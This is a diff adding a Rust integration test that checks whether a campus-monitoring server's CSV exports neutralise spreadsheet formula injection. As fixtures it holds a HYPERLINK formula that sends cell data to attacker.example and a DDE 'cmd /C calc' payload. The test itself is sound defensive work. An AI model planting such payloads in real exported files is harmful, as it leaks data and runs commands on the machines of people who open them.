@@ -66,3 +66,121 @@ async fn a_city_or_province_code_in_a_topic_is_dropped_not_listed() {
     );
     server.stop().await;
 }
+
+/// A campus named like a spreadsheet formula, and a cause that is one, reach every CSV
+/// as text (a leading apostrophe), and the registry's own file reads back unchanged.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_files_neutralise_formulas_and_the_registry_reads_its_own_back() {
+    use campuswatch_protocol::{CampusId, Message, RegionCode, SchoolType};
+    let dir = tempfile::tempdir().unwrap();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let server = campuswatch_server::start(common::local_config(dir.path()), listener)
+        .await
+        .unwrap();
+    let evil = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"查看\")";
+    server
+        .import_registry(
+            vec![campuswatch_server::testing::entry(
+                "150102-P-1",
+                "150102",
+                SchoolType::Primary,
+                1,
+                1,
+            )
+            .named(evil)],
+            false,
+        )
+        .await
+        .unwrap();
+    // Its gateway reports its alarm down with a cause that is a formula too.
+    let broker = common::broker_addr(&server);
+    let campus = CampusId::parse("150102-P-1").unwrap();
+    let region = RegionCode::parse("150102").unwrap();
+    let client = common::gateway(
+        broker,
+        "150102-P-1",
+        "150102",
+        vec![
+            device("alarm-1", DeviceKind::Alarm, DeviceState::Up),
+            device("cam-1", DeviceKind::Camera, DeviceState::Up),
+        ],
+    )
+    .await;
+    let Message::Event(mut e) = campuswatch_testkit::event(
+        &campus,
+        region,
+        1,
+        1,
+        "alarm-1",
+        DeviceKind::Alarm,
+        (DeviceState::Up, DeviceState::Down),
+    ) else {
+        unreachable!()
+    };
+    e.cause = Some("@SUM(1+1)*cmd|' /C calc'!A0".into());
+    common::publish(&client, &Message::Event(e)).await;
+
+    let http = reqwest::Client::new();
+    let base = format!("http://{}", server.http_addr());
+    let csv = |path: String| {
+        let http = http.clone();
+        async move {
+            let r = http.get(path).send().await.unwrap();
+            assert_eq!(r.status(), 200);
+            r.text().await.unwrap()
+        }
+    };
+    let alerts = wait_for("the alarm's alert", WAIT, || async {
+        let text = csv(format!("{base}/api/v1/alerts?state=open&format=csv")).await;
+        text.contains("alarm-1").then_some(text)
+    })
+    .await;
+    let cells = |text: &str| -> Vec<String> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+            .collect()
+    };
+    let protected = format!("'{evil}");
+    for (what, text) in [
+        ("alerts", alerts),
+        (
+            "registry",
+            csv(format!("{base}/api/v1/registry?format=csv")).await,
+        ),
+        (
+            "not networked",
+            csv(format!(
+                "{base}/api/v1/reports/coverage?format=csv&table=not_networked"
+            ))
+            .await,
+        ),
+    ] {
+        let cells = cells(&text);
+        assert!(cells.contains(&protected), "{what}: {text}");
+        assert!(
+            cells
+                .iter()
+                .all(|c| !c.starts_with(['=', '+', '@', '\t', '\r'])),
+            "{what}: {cells:?}"
+        );
+        if what == "alerts" {
+            assert!(cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
+        }
+    }
+    // The registry's file, imported again, gives the same name.
+    let file = csv(format!("{base}/api/v1/registry?format=csv")).await;
+    let r = http
+        .post(format!("{base}/api/v1/registry"))
+        .header("content-type", "text/csv")
+        .body(file)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
+    let v = common::get_json(&http, &format!("{base}/api/v1/campuses/150102-P-1")).await;
+    assert_eq!(v["name"], evil);
+    server.stop().await;
+}
